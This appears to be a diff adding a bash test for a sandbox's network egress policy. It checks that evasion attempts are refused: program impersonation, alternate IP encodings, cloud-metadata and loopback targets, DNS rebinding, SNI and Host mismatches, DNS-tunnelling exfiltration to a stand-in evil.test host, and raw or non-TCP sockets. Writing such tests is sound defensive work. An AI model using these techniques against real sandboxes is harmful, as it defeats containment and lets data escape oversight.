@@ -1,0 +1,106 @@
+#!/bin/bash
+# Being taken for another: addresses, names and programs that are not what the policy means, each beside a control that passes.
+. "$(dirname "$0")/world.sh"
+. "$(dirname "$0")/lib.sh"
+evade=$(dirname "$probe")/evade
+cat >"$work/policy.yaml" <<'P'
+version: 1
+network_policies:
+  one:
+    endpoints:
+      - {host: api.forge.test, ports: [80, 443], protocol: rest, enforcement: enforce, rules: [{allow: {method: GET, path: "/open/**"}}]}
+      - {host: rebind.acme.test, port: 443, protocol: rest, enforcement: enforce, access: read-only}
+      - {host: "*.pub.acme.test", ports: [80, 443], protocol: rest, enforcement: enforce, access: read-only}
+      - {host: "10.20.0.5", port: 8080}
+      - {host: 169.254.169.254, port: 9000}
+    binaries:
+      - {path: /sandbox/allowed}
+      - {path: /usr/bin/curl}
+      - {path: /usr/bin/python3}
+P
+start_gateway && ok "the gateway starts" || { not_ok "the gateway starts"; plan; exit 1; }
+succeeds "a sandbox" openshell sandbox create --name demo --policy "$work/policy.yaml" --detach -- sleep infinity
+put() { openshell sandbox exec -n demo -- sh -c "cat >$2 && chmod 755 $2" <"$1"; }
+run() { timeout 60 "$bin/openshell" sandbox exec -n demo --timeout 30 -- "$@" 2>&1 </dev/null; }
+code() { run curl -sS --max-time 8 -k -o /dev/null -w '%{http_code}' "$@" | tail -c 3; }
+tunnel() { run curl -sS --max-time 8 -k -x http://10.200.0.1:3128 -o /dev/null -w '%{http_connect}' "$@" | tail -c 3; }
+put "$evade" /sandbox/evade
+put "$evade" /sandbox/allowed
+# passes WHAT COMMAND..., refused WHAT COMMAND...: a 200 or anything else but one
+passes() { local what=$1 got; shift; if got=$(run "$@"); then ok "$what"; else not_ok "$what" "$got"; fi; }
+refused() { local what=$1 got; shift; if got=$(run "$@"); then not_ok "$what" "$got"; else ok "$what: $(printf '%s' "$got" | tail -n 1 | cut -c1-100)"; fi; }
+
+# ---- programs
+passes "control: the program of the policy" /sandbox/allowed get api.forge.test 80
+refused "another program" /sandbox/evade get api.forge.test 80
+refused "asks, then becomes the program of the policy" /sandbox/evade become api.forge.test 80 /sandbox/allowed
+refused "becomes it first, then asks over the old connection" /sandbox/evade become-early api.forge.test 80 /sandbox/allowed
+refused "becomes another, with the connection of the policy's program" /sandbox/allowed become-early api.forge.test 80 /sandbox/evade
+handed() { run sh -c "/sandbox/allowed give /tmp/door api.forge.test 80 $1 >/tmp/given & until grep -q ready /tmp/given 2>/dev/null; do :; done; /sandbox/evade take /tmp/door api.forge.test $2; code=\$?; wait; rm -f /tmp/door /tmp/given; exit \$code"; }
+for how in keep drop ask; do
+	for who in open hidden; do
+		if got=$(handed $how $who); then not_ok "a connection that is handed on ($how, $who)" "$got"; else ok "a connection that is handed on ($how, $who): $(printf '%s' "$got" | tail -n 1)"; fi
+	done
+done
+refused "data with the first packet" /sandbox/evade fast-open api.forge.test 80
+refused "the loader runs the program of the policy" /lib64/ld-linux-x86-64.so.2 /sandbox/allowed get api.forge.test 80
+run sh -c 'cp /sandbox/evade /sandbox/new; mv /sandbox/new /sandbox/copied' >/dev/null
+refused "a copy under another name" /sandbox/copied get api.forge.test 80
+refused "a link to it under another name" sh -c 'ln -sf /sandbox/evade /tmp/allowed; /tmp/allowed get api.forge.test 80'
+passes "control: the program of the policy, once more" /sandbox/allowed get api.forge.test 80
+refused "the program replaced after its first use" sh -c 'cat /sandbox/evade >/sandbox/changed; echo changed >>/sandbox/changed; chmod 755 /sandbox/changed; mv /sandbox/changed /sandbox/allowed; /sandbox/allowed get api.forge.test 80'
+
+# ---- addresses
+is "control: by name" "$(code https://api.forge.test/open/x)" 200
+unlike "the same address by number" "$(code https://93.184.216.34/open/x)" "200"
+unlike "another address of an allowed host" "$(code --resolve api.forge.test:443:93.184.216.35 https://api.forge.test/open/x -x '')" "^200$"
+for literal in 1572395042 0x5db8d822 0135.0270.0330.042 93.184.55330 93.184.216.034 '[::ffff:93.184.216.34]' 93.184.216.34.; do
+	unlike "CONNECT to $literal" "$(tunnel "https://$literal/open/x")" "^200$"
+done
+for host in 169.254.169.254:9000 10.20.0.5:9000 127.0.0.1:9000 0.0.0.0:9000 localhost:9000 metadata.google.internal:80; do
+	unlike "CONNECT to $host" "$(tunnel "https://$host/")" "^200$"
+done
+is "control: a public address behind a wildcard" "$(world_name good.pub.acme.test 93.184.216.34; code http://good.pub.acme.test/)" 200
+for address in 10.1.2.3 100.64.1.1 198.18.0.9 169.254.169.254 127.0.0.1 fd00::1; do
+	world_name "bad.pub.acme.test" "$address"
+	unlike "a wildcard's name that leads to $address" "$(code http://bad.pub.acme.test/)" "^200$"
+done
+
+# ---- names
+world_name rebind.acme.test 93.184.216.34
+is "control: a name before it is bound anew" "$(code https://rebind.acme.test/)" 200
+world_name rebind.acme.test 127.0.0.1
+unlike "bound to loopback" "$(code https://rebind.acme.test/)" "^200$"
+unlike "Host unlike the CONNECT name" "$(code -H 'Host: evil.test' https://api.forge.test/open/x)" "^200$"
+sni() { run /usr/bin/python3 -c "
+import socket, ssl
+s = socket.create_connection(('10.200.0.1', 3128)); s.sendall(b'CONNECT api.forge.test:443 HTTP/1.1\r\nHost: api.forge.test:443\r\n\r\n')
+assert b' 200 ' in s.recv(4096)
+c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
+t = c.wrap_socket(s, server_hostname='$1'); t.sendall(b'GET /open/x HTTP/1.1\r\nHost: api.forge.test\r\n\r\n'); print(t.recv(100).split(b'\r\n')[0])"; }
+like "control: SNI like the CONNECT name" "$(sni api.forge.test)" "200 OK"
+unlike "SNI unlike the CONNECT name" "$(sni evil.test)" "200 OK"
+world_forget
+for i in 1 2 3; do run curl -sS --max-time 3 "http://c2VjcmV0$i.evil.test/" >/dev/null; run curl -sS --max-time 3 -x http://10.200.0.1:3128 "http://c2VjcmV0$i.evil.test/" >/dev/null; done
+run /usr/bin/python3 -c "
+import socket
+for i in range(20):
+    try: socket.getaddrinfo('leak%d.tunnel.evil.test' % i, 80)
+    except OSError: pass
+    try: socket.getaddrinfo('leak%d.pub.acme.test' % i, 80)
+    except OSError: pass" >/dev/null
+unlike "nothing is tunnelled out by names: the name server was not asked" "$(world_seen)" 'evil.test|leak[0-9]'
+
+# ---- other protocols
+refused "UDP" sh -c 'echo x | timeout 3 nc -u -w1 93.184.216.34 9999 && exit 1; exit 1'
+for what in "raw" "packet" "io-uring"; do put "$probe" /sandbox/probe; refused "$what" /sandbox/probe $what; done
+refused "ICMP" /usr/bin/python3 -c "
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2); s.sendto(b'\x08\0\xf7\xff\0\0\0\0', ('93.184.216.34', 0)); print(s.recv(100))"
+refused "UDP over IPv6" /usr/bin/python3 -c "
+import socket
+s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('2606:2800:220:1::34', 9999)); s.send(b'x'); print(s.recv(100))"
+refused "SCTP" /usr/bin/python3 -c "
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(2); s.connect(('93.184.216.34', 80))"
+plan
